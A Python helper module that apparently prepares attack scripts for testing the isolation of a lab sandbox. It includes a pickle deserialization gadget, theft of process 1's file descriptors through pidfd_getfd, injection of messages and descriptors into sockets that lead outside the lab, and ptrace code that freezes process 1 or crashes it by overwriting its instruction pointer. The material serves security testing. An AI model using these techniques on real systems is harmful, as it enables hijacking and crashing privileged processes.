"""What an attacker uses inside of a lab: put in front of each attack's own lines, and run there.

Only the standard library: the lab's root writes this, and has no need of netlab.
"""

import array
import ctypes
import json
import os
import pickle  # noqa: F401 - the attacks' own lines use what is here
import socket
import struct
import sys  # noqa: F401
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.restype = ctypes.c_long
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PIDFD_GETFD = 438
PTRACE_ATTACH, PTRACE_POKEUSER, PTRACE_CONT = 16, 6, 7
HIGHEST = 200  # descriptors of process 1 that are tried
KEEP = []  # sockets that must not be closed behind our back
DOOR = "/run/netlab/lab.sock"


class Runs:
    """A value that makes a folder wherever it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (self.path,)


def steal(pid=1):
    """Descriptors of that process, from the third on, as our own."""
    process = os.pidfd_open(pid)
    found = [LIBC.syscall(PIDFD_GETFD, process, number, 0) for number in range(3, HIGHEST)]
    os.close(process)
    return [fd for fd in found if fd >= 0]


def stolen_sockets(pid=1):
    """Those of them that are sockets which somebody reads."""
    for fd in steal(pid):
        try:
            found = socket.socket(fileno=fd)
            if found.family == socket.AF_UNIX and not listens(found) and leads_out(found):
                KEEP.append(found)
                yield found
            else:
                found.detach()
        except OSError:
            continue


def leads_out(sock):
    """Whether whoever has the other end is none of the lab's processes."""
    pid, _, _ = struct.unpack("3i", sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
    return pid == 0


def listens(sock):
    return bool(sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN))


def framed(body, framing, pickled=False):
    """A body as one message, in each of the ways in which a reader might take it."""
    if framing == "length and kind":
        return struct.pack("!IB", len(body), pickled) + body
    if framing == "length":
        return struct.pack("!I", len(body)) + body
    return body + b"\n"


def tell(sock, data, fds=()):
    """Send it, whatever becomes of it, and never wait."""
    words = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else []
    try:
        sock.sendmsg([data[: 1 << 17]], words, socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
        sent = min(len(data), 1 << 17)
        until = time.monotonic() + 1
        while sent < len(data) and time.monotonic() < until:
            try:
                sent += sock.send(data[sent : sent + (1 << 17)], socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
            except BlockingIOError:
                time.sleep(0.005)
    except OSError:
        pass


def tell_all(data, fds=(), pid=1):
    """Send it to whoever reads what process 1 says."""
    for sock in list(stolen_sockets(pid)):
        tell(sock, data, fds)


def asked(path=DOOR, **words):
    """A connection to a door, with that request sent; its answer is not waited for."""
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(3)
    sock.connect(path)
    tell(sock, framed(json.dumps({"language": "en", **words}).encode(), "length and kind"))
    return sock


def detach(work):
    """Go on with that in a process that nobody started; come back when it says so."""
    told, tells = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        null = os.open("/dev/null", os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        os.close(told)
        try:
            work(lambda: os.write(tells, b"x"))
        finally:
            os._exit(0)
    os.close(tells)
    os.read(told, 1)


def freeze(pid=1, after=0.5, seconds=60):
    """Stop that process in half a second, when it has told our own end: it does nothing more."""

    def work(ready):
        ready()
        time.sleep(after)
        LIBC.ptrace(PTRACE_ATTACH, pid, None, None)
        os.waitpid(pid, 0x40000000)  # __WALL
        time.sleep(seconds)

    detach(work)


def break_process_1():
    """End the lab by hand, behind the back of whoever would clear up after it."""
    for sock in stolen_sockets():
        try:
            sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            continue
    time.sleep(1)
    if LIBC.ptrace(PTRACE_ATTACH, 1, None, None) == 0:
        os.waitpid(1, 0x40000000)
        LIBC.ptrace(PTRACE_POKEUSER, 1, 16 * 8, None)  # the instruction pointer of x86_64
        LIBC.ptrace(PTRACE_CONT, 1, None, None)
    time.sleep(2)
